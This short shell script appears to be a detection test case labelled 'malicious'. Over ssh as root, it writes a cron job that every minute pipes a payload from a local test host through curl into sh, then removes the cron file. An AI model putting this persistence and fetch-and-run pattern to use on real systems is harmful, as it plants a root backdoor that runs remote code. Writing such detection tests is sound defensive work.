#!/bin/sh
# malicious: the same python interpreter, over the same ssh lineage, running another script: a one-liner that installs a cron job fetching a payload
. "$(dirname "$0")/../../lib.sh"
ssh_cmd root "/usr/bin/python3 -c \"open('/etc/cron.d/quell-jlive-logrotate','w').write('* * * * * root curl -s http://127.0.0.1:8080/install.sh | sh\\n')\""
rm -f /etc/cron.d/quell-jlive-logrotate
